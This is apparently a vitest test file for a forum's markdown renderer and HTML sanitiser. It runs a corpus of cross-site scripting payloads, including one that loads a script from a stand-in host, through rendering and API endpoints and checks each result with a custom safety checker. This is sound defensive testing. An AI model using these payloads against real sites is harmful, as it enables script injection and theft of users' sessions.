import type { ArticleDetail, DiscussDetail } from '@clearsight/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { adminSession, createMember, type TestMember } from '../../test/fixtures.js';
import { createTestApp, type TestApp } from '../../test/harness.js';
import { closeTestApp, forumClient } from './forum.test-support.js';
import { createRenderCache, renderMarkdown, sanitize, slugify } from '../../shared/markdown.js';

/** Payloads that must never survive rendering, in markdown and as raw HTML. */
const XSS_CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>body{display:none}</style>',
  '<details open ontoggle=alert(1)>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1) )',
  '[x](<javascript:alert(1)>)',
  '[x](javascript&#58;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](DATA:text/html,<script>alert(1)</script>)',
  '![x](javascript:alert(1))',
  '![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x"onerror="alert(1)](https://example.com/a.png)',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '[x](https://example.com "title\\" onmouseover=\\"alert(1)")',
  '```"><script>alert(1)</script>\ncode\n```',
  '```js onmouseover=alert(1)\nlet a = 1;\n```',
  '# <img src=x onerror=alert(1)> heading',
  '<a href="https://ok.example" onclick="alert(1)">ok</a>',
  '<p><scr<script>ipt>alert(1)</scr</script>ipt></p>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
];

const ALLOWED_TAGS = new Set([
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'p',
  'br',
  'hr',
  'blockquote',
  'ul',
  'ol',
  'li',
  'strong',
  'em',
  'b',
  'i',
  's',
  'del',
  'ins',
  'mark',
  'sub',
  'sup',
  'code',
  'pre',
  'span',
  'a',
  'img',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'kbd',
]);
const OPEN_TAG = /<([a-zA-Z][a-zA-Z0-9]*)((?:\s+[^\s="'<>/]+(?:="[^"]*")?)*)\s*\/?>/g;

function decode(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_m, h: string) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);?/g, (_m, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

/** The elements of the output, parsed as a browser would read their names and (double-quoted) attributes. */
function elements(html: string): Array<{ name: string; attrs: Record<string, string> }> {
  return [...html.matchAll(OPEN_TAG)].map((m) => {
    const attrs: Record<string, string> = {};
    for (const a of (m[2] ?? '').matchAll(/\s+([^\s="'<>/]+)(?:="([^"]*)")?/g))
      attrs[a[1]!.toLowerCase()] = decode(a[2] ?? '');
    return { name: m[1]!.toLowerCase(), attrs };
  });
}

function assertSafe(html: string): void {
  // Every "<" left in the output starts an element we parsed or a closing tag: nothing half-formed.
  const rest = html.replace(OPEN_TAG, '').replace(/<\/[a-zA-Z][a-zA-Z0-9]*\s*>/g, '');
  expect(rest, html).not.toContain('<');
  for (const { name, attrs } of elements(html)) {
    expect(ALLOWED_TAGS.has(name), `<${name}> in ${html}`).toBe(true);
    for (const [attr, value] of Object.entries(attrs)) {
      expect(attr, `${attr} on <${name}>`).not.toMatch(/^on|^style$|^xlink:|^formaction$|^srcdoc$/);
      if (attr === 'href' || attr === 'src') {
        // Browsers ignore control characters and whitespace inside a URL scheme: drop them before checking.
        const compact = [...value]
          .filter((ch) => {
            const c = ch.codePointAt(0)!;
            return c > 0x20 && (c < 0x7f || c > 0x9f);
          })
          .join('')
          .toLowerCase();
        expect(compact, `${attr}=${value}`).not.toMatch(/^(javascript|vbscript|livescript|file):/);
        if (compact.startsWith('data:')) {
          expect(name === 'img' && /^data:image\/(png|jpe?g|gif|webp);base64,/.test(compact), `${attr}=${value}`).toBe(
            true,
          );
        }
      }
    }
  }
}

describe('forum: markdown rendering and sanitising', () => {
  it.each(XSS_CORPUS)('neutralises %j', (payload) => {
    assertSafe(renderMarkdown(payload).html);
    assertSafe(sanitize(payload));
  });

  it('has a checker that catches what it must', () => {
    for (const bad of [
      '<a href="javascript:alert(1)">x</a>',
      '<a href=" jav&#x09;ascript:alert(1)">x</a>',
      '<img src=x onerror=alert(1)>',
      '<img src="x" onerror="alert(1)">',
      '<script>alert(1)</script>',
      '<p style="color:red">x</p>',
      '<a href="data:text/html,x">x</a>',
      '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    ]) {
      expect(() => assertSafe(bad), bad).toThrow();
    }
    expect(() =>
      assertSafe('<p>&lt;script&gt; <a href="https://x.example" title="a&quot; onclick=&quot;b">x</a></p>'),
    ).not.toThrow();
  });

  it('neutralises the whole corpus in one document', () => {
    assertSafe(renderMarkdown(XSS_CORPUS.join('\n\n')).html);
  });

  it('keeps ordinary markdown: emphasis, lists, tables, quotes, code', () => {
    const { html } = renderMarkdown(
      '**粗体** *斜体* ~~删除~~ `code`\n\n- 一\n- 二\n\n1. 甲\n2. 乙\n\n> 引用\n\n| 参数 | 值 |\n|:--|--:|\n| 分辨率 | 500万 |\n\n---',
    );
    expect(html).toContain('<strong>粗体</strong>');
    expect(html).toContain('<em>斜体</em>');
    expect(html).toContain('<s>删除</s>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<li>一</li>');
    expect(html).toContain('<ol>');
    expect(html).toContain('<blockquote>');
    expect(html).toContain('<th class="text-left">参数</th>');
    expect(html).toContain('<td class="text-right">500万</td>');
    expect(html).toContain('<hr />');
  });

  it('highlights fenced code with highlight.js classes', () => {
    const { html } = renderMarkdown('```python\nimport cv2\nimg = cv2.imread("a.png")\n```');
    expect(html).toContain('<pre class="code-block" data-lang="python"><code class="hljs language-python">');
    expect(html).toContain('<span class="hljs-keyword">import</span>');
    const plain = renderMarkdown('```\n<b>raw</b>\n```').html;
    expect(plain).toContain('&lt;b&gt;raw&lt;/b&gt;');
  });

  it('marks external links nofollow noopener in a new tab, leaves internal links alone', () => {
    const { html } = renderMarkdown('[外部](https://example.com/a) [内部](/article/1) 自动链接 https://opencv.org');
    expect(html).toContain('<a href="https://example.com/a" rel="nofollow noopener" target="_blank">外部</a>');
    expect(html).toContain('<a href="/article/1">内部</a>');
    expect(html).toContain(
      '<a href="https://opencv.org" rel="nofollow noopener" target="_blank">https://opencv.org</a>',
    );
  });

  it('allows images from files, the web and raster data: URLs only', () => {
    const { html } = renderMarkdown(
      '![图](/prod-api/file/abc) ![外](https://example.com/a.png) ![点](data:image/png;base64,iVBORw0KGgo=)',
    );
    expect(html).toContain('<img loading="lazy" src="/prod-api/file/abc" alt="图" />');
    expect(html).toContain('src="https://example.com/a.png"');
    expect(html).toContain('src="data:image/png;base64,iVBORw0KGgo="');
    expect(sanitize('<img src="data:image/svg+xml;base64,PHN2Zz4=">')).not.toContain('data:');
  });

  it('gives headings unique ids and returns the table of contents', () => {
    const { html, toc } = renderMarkdown(
      '# 相机选型\n\n## 接口 GigE\n\n## 接口 GigE\n\n### `Mono8` 像素格式\n\n#### !!!',
    );
    expect(toc).toEqual([
      { level: 1, text: '相机选型', id: 'h-相机选型' },
      { level: 2, text: '接口 GigE', id: 'h-接口-gige' },
      { level: 2, text: '接口 GigE', id: 'h-接口-gige-2' },
      { level: 3, text: 'Mono8 像素格式', id: 'h-mono8-像素格式' },
      { level: 4, text: '!!!', id: 'h-section' },
    ]);
    expect(html).toContain('<h2 id="h-接口-gige-2">接口 GigE</h2>');
    expect(slugify('  A  B ')).toBe('h-a-b');
  });

  it('caches per revision: an edit (new revision) renders again', () => {
    const cache = createRenderCache(2);
    const a = cache.render('d:1:1', '# 一');
    expect(cache.render('d:1:1', '# 改了但同一修订')).toBe(a);
    expect(cache.render('d:1:2', '# 二').html).toContain('二');
    cache.render('d:2:1', 'x');
    expect(cache.size).toBe(2);
  });
});

describe('forum: rendering through the API', () => {
  let t: TestApp;
  let f: ReturnType<typeof forumClient>;
  let member: TestMember;
  let plateId: string;
  beforeAll(async () => {
    t = await createTestApp();
    f = forumClient(t);
    const admin = await adminSession(t);
    member = await createMember(t);
    plateId = (await f.createPlate(admin.token)).id;
  });
  afterAll(async () => {
    await closeTestApp(t);
  });

  it('previews markdown exactly as it will be saved (members only)', async () => {
    const res = await t.request({
      method: 'POST',
      url: '/prod-api/forum/preview',
      token: member.token,
      payload: { content: '# 标题\n\n<script>alert(1)</script>' },
    });
    expect(res.statusCode).toBe(200);
    expect(res.json().toc).toEqual([{ level: 1, text: '标题', id: 'h-标题' }]);
    assertSafe(res.json().html);
    expect(
      (await t.request({ method: 'POST', url: '/prod-api/forum/preview', payload: { content: 'x' } })).statusCode,
    ).toBe(401);
  });

  it('never lets a payload through a saved topic, an edit or an article', async () => {
    const content = XSS_CORPUS.join('\n\n');
    const topic = await f.createTopic(member.token, plateId, { content });
    assertSafe(topic.contentHtml);
    const detail = (await f.get(`/prod-api/discuss/${topic.id}`)).json();
    assertSafe(detail.contentHtml);
    const edited = await f.ok<DiscussDetail>(
      t.request({
        method: 'PUT',
        url: `/prod-api/discuss/${topic.id}`,
        token: member.token,
        payload: { content: `${content}\n\n第二版` },
      }),
    );
    assertSafe(edited.contentHtml);
    expect(edited.contentHtml).toContain('第二版');
    const article = await f.ok<ArticleDetail>(
      t.request({
        method: 'POST',
        url: '/prod-api/article',
        token: member.token,
        payload: { discussId: topic.id, name: '章节', content },
      }),
    );
    assertSafe(article.contentHtml);
  });
});
